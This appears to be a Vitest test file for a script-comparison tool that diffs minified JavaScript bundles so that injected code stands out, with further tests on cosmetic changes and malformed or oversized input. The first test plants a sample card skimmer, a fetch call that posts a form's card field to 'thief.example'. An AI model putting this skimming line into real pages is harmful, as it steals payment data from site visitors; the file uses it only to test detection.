import { readFileSync } from 'node:fs';
import { expect, it } from 'vitest';
import { compareScripts } from './compare-scripts.ts';

const MINIFIED = readFileSync(new URL('../../../node_modules/echarts/dist/echarts.min.js', import.meta.url), 'utf8').slice(0, 500_000);

it('shows only what was put into a minified bundle of 500 kB', async () => {
  const at = MINIFIED.indexOf(';', 250_000) + 1;
  const stolen = 'fetch("https://thief.example/p",{method:"POST",body:document.forms[0].card.value});';
  const found = await compareScripts(MINIFIED, MINIFIED.slice(0, at) + stolen + MINIFIED.slice(at));
  expect(found).toMatchObject({ how: 'beautified', removed: 0, cut: false });
  expect(found?.added).toBeLessThan(8);
  expect(found?.lines.filter((line) => line.kind === 'added').map((line) => line.text.trim())).toContain(
    'fetch("https://thief.example/p", {',
  );
  expect(found?.lines.length).toBeLessThan(25);
}, 30_000);

it('does not show numbers, ids and short names as changed, unless asked; texts always', async () => {
  const before = 'function a(b){return b+1700000000}var c="one";var id="9f86d081884c7d65";';
  const after = 'function q(x){return x+1800000000}var c="two";var id="60303ae22b998861";';
  const found = await compareScripts(before, after);
  expect(found?.lines.filter((line) => line.kind !== 'same').map((line) => line.text)).toEqual(['var c = "one";', 'var c = "two";']);
  expect(found?.cosmetic).toBe(3);
  expect((await compareScripts(before, after, { values: true }))?.added).toBe(4);
}, 30_000);

it('takes what is no script, is very long or takes too long without hanging', async () => {
  expect(await compareScripts('((((((\u0000{{{', '</script><b>"')).toMatchObject({ how: 'beautified' });
  const long = `${'a();'.repeat(400_000)}`;
  const found = await compareScripts(long, `${long}b("new");`);
  expect(found).toMatchObject({ how: 'split', added: 1, removed: 0 });
  expect(await compareScripts(MINIFIED, MINIFIED.replaceAll('e', 'ee'), { maxMs: 30 })).toBeNull();
  expect(await compareScripts('x'.repeat(8_000_001), '')).toBeNull();
  const deep = '['.repeat(200_000);
  expect(['beautified', 'split', undefined]).toContain((await compareScripts(deep, `${deep}1`, { maxMs: 3_000 }))?.how);
}, 60_000);
